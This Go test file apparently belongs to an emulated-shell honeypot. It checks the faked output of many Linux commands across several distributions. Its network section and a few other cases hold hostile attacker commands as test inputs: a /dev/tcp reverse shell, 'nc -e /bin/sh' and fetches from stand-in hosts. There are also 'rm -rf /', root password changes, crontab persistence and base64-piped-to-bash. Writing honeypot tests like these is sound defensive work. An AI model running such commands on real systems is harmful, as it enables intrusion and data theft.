package shell

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// TestCommands pins the output of individual commands. want is the exact
// output unless it starts with "~", which makes it a regular expression
// that must match the whole output.
func TestCommands(t *testing.T) {
	for _, tc := range []struct {
		distro, user, line, want string
	}{
		// Identity and host.
		{"ubuntu22", "root", "whoami; id", "root\nuid=0(root) gid=0(root) groups=0(root)\n"},
		{"rocky9", "root", "id", "uid=0(root) gid=0(root) groups=0(root) context=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023\n"},
		{"ubuntu22", "root", "uname; uname -n; uname -s -r -m", "Linux\nSRV-DELTA-42\nLinux 5.15.0-91-generic x86_64\n"},
		{"ubuntu22", "root", "uname -a", "Linux SRV-DELTA-42 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n"},
		{"debian", "root", "uname -a", "~^Linux SRV-DELTA-42 6\\.1\\.0-\\d+-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6\\.1\\.\\d+-1 \\(20\\d\\d-\\d\\d-\\d\\d\\) x86_64 GNU/Linux\n$"},
		{"alpine", "root", "uname -a", "~^Linux SRV-DELTA-42 6\\.6\\.\\d+-0-(lts|virt) #1-Alpine SMP PREEMPT_DYNAMIC .* x86_64 Linux\n$"},
		{"ubuntu22", "root", "hostname; hostname -I; cat /etc/hostname", "SRV-DELTA-42\n10.20.30.40 \nSRV-DELTA-42\n"},
		{"ubuntu22", "root", "echo $SHELL; nproc | grep -c '^[0-9]'", "/bin/bash\n1\n"},
		{"ubuntu22", "root", "lsb_release -a 2>/dev/null", "Distributor ID:\tUbuntu\nDescription:\tUbuntu 22.04.3 LTS\nRelease:\t22.04\nCodename:\tjammy\n"},
		{"ubuntu22", "root", "lsb_release -a 2>&1 >/dev/null", "No LSB modules are available.\n"},
		{"ubuntu22", "root", "ulimit -n; ulimit", "1024\nunlimited\n"},
		{"ubuntu22", "root", "getent passwd root", "root:x:0:0:root:/root:/bin/bash\n"},
		{"ubuntu22", "ubuntu", "dmesg", "dmesg: read kernel buffer failed: Operation not permitted\n"},
		{"ubuntu22", "root", "mount | head -1", "sysfs on /sys type sysfs (rw,nosuid,nodev,noexec,relatime)\n"},
		{"ubuntu22", "root", "tty; arch", "/dev/pts/0\nx86_64\n"},
		{"ubuntu22", "root", "w | head -2 | tail -1", "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n"},
		{"ubuntu22", "root", "who", "root     pts/0        2024-03-05 10:20 (203.0.113.9)\n"},
		{"ubuntu22", "root", "uptime", "~^ 10:20:30 up \\d+ days?, +(\\d+:\\d\\d|\\d+ min),  1 user,  load average: \\d\\.\\d\\d, \\d\\.\\d\\d, \\d\\.\\d\\d\n$"},
		// Processes, memory, disks, network.
		{"ubuntu22", "root", "ps aux | head -1", "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"},
		{"ubuntu22", "root", "ps -ef | head -2", "~^UID          PID    PPID  C STIME TTY          TIME CMD\nroot           1       0  0 +\\S+ \\?        \\d\\d:\\d\\d:\\d\\d /sbin/init\n$"},
		{"ubuntu22", "root", "ps | head -1; ps | grep -c bash", "    PID TTY          TIME CMD\n1\n"},
		{"ubuntu22", "root", "ps aux | grep -c nginx", "~^[3-9]\n$"},
		{"ubuntu22", "root", "pkill nginx; ps aux | grep -c nginx", "1\n"},
		{"ubuntu22", "root", "free | head -1", "               total        used        free      shared  buff/cache   available\n"},
		{"ubuntu22", "root", "free -h | awk '/Mem/{print $1}'", "Mem:\n"},
		{"ubuntu22", "root", "df -h | head -1", "Filesystem      Size  Used Avail Use% Mounted on\n"},
		{"ubuntu22", "root", "top -b -n 1 | head -1 | cut -c1-14", "top - 10:20:30\n"},
		{"ubuntu22", "root", "ip route | head -1", "default via 10.20.30.1 dev ens160 proto dhcp src 10.20.30.40 metric 100 \n"},
		{"ubuntu22", "root", "ifconfig | grep -c 'inet 10.20.30.40'", "1\n"},
		{"ubuntu22", "root", "ip -4 -br a | tail -1 | awk '{print $3}'", "10.20.30.40/24\n"},
		{"ubuntu22", "root", "netstat -tulpn | grep ':22 ' | head -1", "~^tcp        0      0 0\\.0\\.0\\.0:22              0\\.0\\.0\\.0:\\*               LISTEN      \\d+/sshd \n$"},
		{"ubuntu22", "root", "netstat -ant | grep ESTAB | cat", "tcp        0     36 10.20.30.40:22          203.0.113.9:50022       ESTABLISHED \n"},
		{"ubuntu22", "root", "ss -tln | head -1", "Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n"},
		{"ubuntu22", "root", "route -n | tail -2 | awk '{print $1, $2, $4}'", "0.0.0.0 10.20.30.1 UG\n10.20.30.0 0.0.0.0 U\n"},
		{"ubuntu22", "root", "arp -a", "~^_gateway \\(10\\.20\\.30\\.1\\) at ([0-9a-f]{2}:){5}[0-9a-f]{2} \\[ether\\] on ens160\n$"},
		{"ubuntu22", "root", "ping -c 2 8.8.8.8 | tail -2", "~^2 packets transmitted, 0 received, 100% packet loss, time 10\\d\\dms\n\n$"},
		{"ubuntu22", "root", "ping -c 1 example.com", "ping: example.com: Temporary failure in name resolution\n"},
		{"ubuntu22", "root", "cat /proc/uptime | wc -w; cat /proc/loadavg | wc -w", "2\n5\n"},
		{"ubuntu22", "root", "grep -c processor /proc/cpuinfo; nproc", "~^(\\d+)\n(\\d+)\n$"},
		{"ubuntu22", "root", "head -1 /proc/meminfo", "~^MemTotal: +\\d+ kB\n$"},
		// Files.
		{"ubuntu22", "root", "ls -l /etc/passwd", "~^-rw-r--r-- 1 root root \\d+ \\w{3} [ \\d]\\d ( \\d{4}|\\d\\d:\\d\\d) /etc/passwd\n$"},
		{"ubuntu22", "root", "ls -l /etc/os-release | cat", "~^lrwxrwxrwx 1 root root 21 .* /etc/os-release -> ../usr/lib/os-release\n$"},
		{"ubuntu22", "root", "ls -ld /tmp /root | cut -c1-10", "drwx------\ndrwxrwxrwt\n"},
		{"ubuntu22", "root", "ls -a /root/projects | cat", ".\n..\n.env\n"},
		{"ubuntu22", "root", "ls /nope; echo $?", "ls: cannot access '/nope': No such file or directory\n2\n"},
		{"ubuntu22", "root", "ls -l /dev/null | cat", "~^crw-rw-rw- 1 root root 1, 3 .* /dev/null\n$"},
		{"ubuntu22", "root", "mkdir -p /tmp/a/b/c && cd /tmp/a/b/c && pwd && cd ../.. && ls | cat", "/tmp/a/b/c\nb\n"},
		{"ubuntu22", "root", "mkdir /tmp", "mkdir: cannot create directory ‘/tmp’: File exists\n"},
		{"ubuntu22", "root", "touch /tmp/x; rmdir /tmp/x; rm /tmp; rm -rf /", "rmdir: failed to remove '/tmp/x': Not a directory\nrm: cannot remove '/tmp': Is a directory\nrm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n"},
		{"ubuntu22", "root", "cp /etc/hostname /tmp/h && mv /tmp/h /tmp/h2 && cat /tmp/h2 && ls /tmp/h", "SRV-DELTA-42\nls: cannot access '/tmp/h': No such file or directory\n"},
		{"ubuntu22", "root", "cp -r /root/projects /tmp/p && ls -A /tmp/p", ".env\n"},
		{"ubuntu22", "root", "ln -s /etc/passwd /tmp/l && readlink /tmp/l && head -1 /tmp/l", "/etc/passwd\nroot:x:0:0:root:/root:/bin/bash\n"},
		{"ubuntu22", "root", "cd /etc; find . -name 'host*' | sort", "./hostname\n./hosts\n"},
		{"ubuntu22", "root", "find /root -type f -name '*.txt'", "/root/notes.txt\n"},
		{"ubuntu22", "root", "find / -perm -4000 -type f 2>/dev/null | grep -c /usr/bin/sudo", "1\n"},
		{"ubuntu22", "root", "chmod 640 /tmp; stat -c '%a %U' /tmp; chmod u+s,o-r /etc/hostname; ls -l /etc/hostname | cut -c1-10", "640 root\n-rwSr-----\n"},
		{"ubuntu22", "root", "chown ubuntu:ubuntu /etc/hostname && stat -c '%U:%G' /etc/hostname; chown nobodyx /tmp", "ubuntu:ubuntu\nchown: invalid user: ‘nobodyx’\n"},
		{"ubuntu22", "root", "chattr +i /etc/hosts; lsattr /etc/hosts; echo x > /etc/hosts", "----i---------e------- /etc/hosts\nbash: /etc/hosts: Operation not permitted\n"},
		{"ubuntu22", "root", "which ls wget nope; echo $?", "/usr/bin/ls\n/usr/bin/wget\n1\n"},
		{"ubuntu22", "root", "whereis ls", "ls: /usr/bin/ls /usr/share/man/man1/ls.1.gz\n"},
		{"ubuntu22", "root", "type ll", "ll is aliased to `ls -alF'\n"},
		{"ubuntu22", "root", "file /usr/bin/ls | cut -d, -f1,2; file /etc/passwd /tmp", "/usr/bin/ls: ELF 64-bit LSB pie executable, x86-64\n/etc/passwd: ASCII text\n/tmp: sticky, directory\n"},
		{"ubuntu22", "root", "du -sh /root/projects", "8.0K\t/root/projects\n"},
		{"ubuntu22", "root", "basename /a/b.sh .sh; dirname /a/b.sh; realpath /bin/../etc", "b\n/a\n/etc\n"},
		// Text tools.
		{"ubuntu22", "root", "printf 'b\\na\\nB\\na\\n' | sort | uniq -c", "      1 B\n      2 a\n      1 b\n"},
		{"ubuntu22", "root", "printf 'x\\ny\\nX\\n' | grep -i -v y; printf 'a\\nb\\n' | grep -c .", "x\nX\n2\n"},
		{"ubuntu22", "root", "grep -n root /etc/passwd | cut -d: -f1-2", "1:root\n"},
		{"ubuntu22", "root", "grep -rl PermitRootLogin /etc/ssh", "/etc/ssh/sshd_config\n"},
		{"ubuntu22", "root", "echo 'a\\(b' | grep 'a\\\\(' | cat; echo $?", "a\\(b\n0\n"},
		{"ubuntu22", "root", "grep -E 'x(' /etc/passwd; echo $?", "grep: Unmatched ( or \\(\n2\n"},
		{"ubuntu22", "root", "wc -l /etc/hostname; echo abc | wc -c; echo 'a b' | wc", "1 /etc/hostname\n4\n      1       2       4\n"},
		{"ubuntu22", "root", "seq 5 | head -2; seq 5 | tail -n 1; seq 1 2 7 | tr '\\n' ,", "1\n2\n5\n1,3,5,7,"},
		{"ubuntu22", "root", "echo hello | base64; echo aGVsbG8K | base64 -d", "aGVsbG8K\nhello\n"},
		{"ubuntu22", "root", "echo hello | md5sum; echo hello | sha256sum", "b1946ac92492d2347c6235b4d2611184  -\n5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03  -\n"},
		{"ubuntu22", "root", "echo a:b:c | cut -d: -f2,3; echo hello | tr a-z A-Z; echo aabb | tr -s ab", "b:c\nHELLO\nab\n"},
		{"ubuntu22", "root", "awk -F: '$3 == 0 {print $1, $7}' /etc/passwd", "root /bin/bash\n"},
		{"ubuntu22", "root", "printf '1 2\\n3 4\\n' | awk '{s+=$2} END {print s, NR}'", "6 2\n"},
		{"ubuntu22", "root", "echo 'a b a' | awk '{for(i=1;i<=NF;i++) c[$i]++} END {for (k in c) print k, c[k]}'", "a 2\nb 1\n"},
		{"ubuntu22", "root", "echo 'x=1' | awk -F= '{printf \"%s is %d\\n\", $1, $2+1}'", "x is 2\n"},
		{"ubuntu22", "root", "echo hello world | sed 's/o/0/g; s/^h/H/'", "Hell0 w0rld\n"},
		{"ubuntu22", "root", "printf 'a\\nb\\nc\\n' | sed -n '2p'; printf 'a\\nb\\n' | sed '1d'", "b\nb\n"},
		{"ubuntu22", "root", "sed -i 's/^PermitRootLogin .*/PermitRootLogin no/' /etc/ssh/sshd_config; grep ^PermitRoot /etc/ssh/sshd_config | cat", "PermitRootLogin no\n"},
		{"ubuntu22", "root", "echo 'a b' | xargs -n1 echo x", "x a\nx b\n"},
		{"ubuntu22", "root", "printf 'abc' | rev; echo; echo hi | tee /tmp/t >/dev/null; cat /tmp/t", "cba\nhi\n"},
		// Shell features through commands.
		{"ubuntu22", "root", "export A=1; printenv A; env | grep -c ^A=", "1\n1\n"},
		{"ubuntu22", "root", "alias | grep -c ll; unalias ll; ll", "1\nll: command not found\n"},
		{"ubuntu22", "root", "history -c; history", ""},
		{"ubuntu22", "root", "clear", "\x1b[H\x1b[2J\x1b[3J"},
		{"ubuntu22", "root", "sleep 1; sleep x", "sleep: invalid time interval 'x'\nTry 'sleep --help' for more information.\n"},
		{"ubuntu22", "root", "kill 999999; kill -9 1; echo $?", "bash: kill: (999999) - No such process\n0\n"},
		{"ubuntu22", "ubuntu", "kill -9 1", "bash: kill: (1) - Operation not permitted\n"},
		{"ubuntu22", "root", "date; date +%s; date -d @0 +%F", "Tue Mar  5 10:20:30 AM UTC 2024\n1709634030\n1970-01-01\n"},
		{"ubuntu22", "root", "nohup true; cat nohup.out; echo $?", "nohup: ignoring input and appending output to 'nohup.out'\n0\n"},
		// Accounts and scheduling.
		{"ubuntu22", "root", "useradd -m bob && id bob && ls -A /home/bob | head -1", "~^uid=10\\d\\d\\(bob\\) gid=10\\d\\d\\(bob\\) groups=10\\d\\d\\(bob\\)\n\\.bash_logout\n$"},
		{"ubuntu22", "root", "useradd root", "useradd: user 'root' already exists\n"},
		{"ubuntu22", "ubuntu", "useradd eve", "useradd: Permission denied.\nuseradd: cannot lock /etc/passwd; try again later.\n"},
		{"ubuntu22", "root", "echo 'root:new' | chpasswd; echo $?", "0\n"},
		{"ubuntu22", "root", "crontab -l; echo '* * * * * /tmp/x' | crontab -; crontab -l; ls /var/spool/cron/crontabs", "no crontab for root\n* * * * * /tmp/x\nroot\n"},
		{"ubuntu22", "root", "echo 'bad line' | crontab -", "\"-\":1: bad minute\nerrors in crontab file, can't install.\n"},
		// Packages and services.
		{"ubuntu22", "root", "apt-get install -y nmap 2>/dev/null | head -4", "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\nThe following NEW packages will be installed:\n"},
		{"ubuntu22", "root", "apt install -y curl 2>/dev/null | tail -2", "curl is already the newest version (7.81.0-1ubuntu1.15).\n0 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n"},
		{"ubuntu22", "ubuntu", "apt-get install x 2>&1 | head -1", "E: Could not open lock file /var/lib/dpkg/lock-frontend - open (13: Permission denied)\n"},
		{"ubuntu22", "root", "dpkg -l | grep -c '^ii '", "33\n"},
		{"ubuntu22", "root", "dpkg -l openssh-server | tail -1 | awk '{print $1, $2, $3}'", "ii openssh-server 1:8.9p1-3ubuntu0.6\n"},
		{"ubuntu22", "root", "yum install x", "yum: command not found\n"},
		{"debian", "root", "yum install x", "bash: yum: command not found\n"},
		{"rocky9", "root", "yum install -y nmap 2>&1 | tail -1 | cut -c1-40", "Error: Failed to download metadata for r\n"},
		{"rocky9", "root", "rpm -q bash", "bash-5.1.8-6.el9_1.x86_64\n"},
		{"alpine", "root", "apk add nmap 2>&1 | tail -2", "  nmap (no such package):\n    required by: world[nmap]\n"},
		{"arch", "root", "pacman -Q bash", "bash 5.2.026-2\n"},
		{"ubuntu22", "root", "systemctl status ssh | head -1; systemctl is-active nginx", "● ssh.service - OpenBSD Secure Shell server\nactive\n"},
		{"ubuntu22", "root", "systemctl start foo", "Failed to start foo.service: Unit foo.service not found.\n"},
		{"ubuntu22", "ubuntu", "systemctl stop ssh", "Failed to stop ssh.service: Interactive authentication required.\nSee system logs and 'systemctl status ssh.service' for details.\n"},
		{"ubuntu22", "root", "service ssh status | head -1", "● ssh.service - OpenBSD Secure Shell server\n"},
		{"ubuntu22", "root", "iptables -A INPUT -j DROP; iptables -L INPUT | head -3", "Chain INPUT (policy ACCEPT)\ntarget     prot opt source               destination         \nDROP       all  --  anywhere             anywhere            \n"},
		{"ubuntu22", "ubuntu", "iptables -L", "iptables v1.8.7 (nf_tables): Could not fetch rule set generation id: Permission denied (you must be root)\n\n"},
		// Network fetches without a Fetcher.
		{"ubuntu22", "root", "wget -q http://203.0.113.5/a; echo $?; ls a", "4\nls: cannot access 'a': No such file or directory\n"},
		{"ubuntu22", "root", "wget http://evil.example/a", "--2024-03-05 10:20:30--  http://evil.example/a\nResolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘evil.example’\n"},
		{"ubuntu22", "root", "curl -s http://203.0.113.5/a; echo $?", "28\n"},
		{"ubuntu22", "root", "curl http://203.0.113.5:8080/a", "~^curl: \\(28\\) Failed to connect to 203\\.0\\.113\\.5 port 8080 after 1\\d{5} ms: Connection timed out\n$"},
		{"ubuntu20", "root", "curl http://203.0.113.5/a", "curl: (7) Failed to connect to 203.0.113.5 port 80: Connection timed out\n"},
		{"alpine", "root", "tftp -g -r x 203.0.113.5", "tftp: timeout\n"},
		{"alpine", "root", "ftpget 203.0.113.5 x.sh x.sh", "ftpget: can't connect to remote host (203.0.113.5): Connection timed out\n"},
		{"ubuntu22", "root", "ftpget 203.0.113.5 x x", "ftpget: command not found\n"},
		{"ubuntu22", "root", "busybox ftpget 203.0.113.5 x x", "ftpget: can't connect to remote host (203.0.113.5): Connection timed out\n"},
		{"ubuntu22", "root", "scp root@203.0.113.5:/x /tmp/", "ssh: connect to host 203.0.113.5 port 22: Connection timed out\nlost connection\n"},
		{"ubuntu22", "root", "nc -e /bin/sh 203.0.113.5 4444 2>&1 | head -1", "nc: invalid option -- 'e'\n"},
		{"ubuntu22", "root", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "bash: connect: Connection timed out\nbash: /dev/tcp/203.0.113.5/4444: Connection timed out\n"},
		// Interpreters and executing files: content is never run.
		{"ubuntu22", "root", "python3 -c 'print(\"hi\")'; python3 -V", "hi\nPython 3.10.12\n"},
		{"ubuntu22", "root", "python3 -c 'import os; os.system(\"id -u\")'", "0\n"},
		{"centos7", "root", "python -V; python3", "Python 2.7.5\nbash: python3: command not found\n"},
		{"ubuntu22", "root", "perl -e 'print \"x\\n\"'", "x\n"},
		{"ubuntu22", "root", "printf '\\177ELF\\2\\1\\1' > /tmp/e; head -c 64 /usr/bin/ls > /tmp/ok; chmod +x /tmp/e /tmp/ok; /tmp/ok; echo $?; /tmp/e; echo $?", "0\nbash: /tmp/e: cannot execute binary file: Exec format error\n126\n"},
		{"ubuntu22", "root", "printf '#!/bin/sh\\r\\necho x\\r\\n' > /tmp/s.sh; chmod +x /tmp/s.sh; ./../tmp/s.sh; cd /tmp; ./s.sh", "bash: ./../tmp/s.sh: /bin/sh^M: bad interpreter: No such file or directory\nbash: ./s.sh: /bin/sh^M: bad interpreter: No such file or directory\n"},
		{"ubuntu22", "root", "printf '#!/usr/bin/python9\\n' > /tmp/p; chmod +x /tmp/p; /tmp/p", "bash: /tmp/p: /usr/bin/python9: bad interpreter: No such file or directory\n"},
		{"ubuntu22", "root", "echo 'echo ran' > /tmp/q; /tmp/q; echo $?; chmod +x /tmp/q; /tmp/q; echo $?; sh /tmp/q; echo $?", "bash: /tmp/q: Permission denied\n126\n0\n0\n"},
		{"ubuntu22", "root", "echo 'id -u' | sh; echo d2hvYW1pCg== | base64 -d | bash", "0\nroot\n"},
		{"ubuntu22", "root", "gcc x.c; make", "Command 'gcc' not found, but can be installed with:\n\napt install gcc\n\nCommand 'make' not found, but can be installed with:\n\napt install make\n\n"},
		{"ubuntu22", "root", "tar xzf /nope.tgz", "tar: /nope.tgz: Cannot open: No such file or directory\ntar: Error is not recoverable: exiting now\n"},
		{"ubuntu22", "root", "cd /tmp; tar czf e.tgz /etc/hostname /root/projects 2>/dev/null; mkdir x; tar xzf e.tgz -C x; cat x/etc/hostname; tar tzf e.tgz", "SRV-DELTA-42\netc/hostname\nroot/projects/\nroot/projects/.env\n"},
		{"ubuntu22", "root", "cd /tmp; echo hi > g; gzip g; ls g* | cat; gunzip g.gz; cat g", "g.gz\nhi\n"},
		{"ubuntu22", "root", "unzip /etc/passwd 2>&1 | head -2", "Archive:  /etc/passwd\n  End-of-central-directory signature not found.  Either this file is not\n"},
		{"ubuntu22", "root", "unzip nope.zip", "unzip:  cannot find or open nope.zip, nope.zip.zip or nope.zip.ZIP.\n"},
		{"ubuntu22", "root", "vi /etc/passwd; echo $?", "0\n"},
		{"ubuntu22", "root", "sudo su -c 'whoami'", "root\n"},
	} {
		t.Run(tc.distro+"/"+tc.user+"/"+tc.line, func(t *testing.T) {
			failOnPanic(t)
			p := testPersona
			p.Distro = tc.distro
			f := testFS()
			if tc.distro != testPersona.Distro {
				f = cachedFS(p)
			}
			s := NewSession(Config{FS: f, User: tc.user, Now: func() time.Time { return testNow }, RemoteAddr: "203.0.113.9:50022", Sleep: noSleep})
			got := run(t, s, tc.line)
			if re, ok := strings.CutPrefix(tc.want, "~"); ok {
				if !regexp.MustCompile(re).MatchString(got) {
					t.Errorf("output %q does not match %s", got, re)
				}
				return
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

var fsCache = map[string]*FS{}

func cachedFS(p Persona) *FS {
	if f := fsCache[p.Distro]; f != nil {
		return f
	}
	f := NewFS(p)
	fsCache[p.Distro] = f
	return f
}
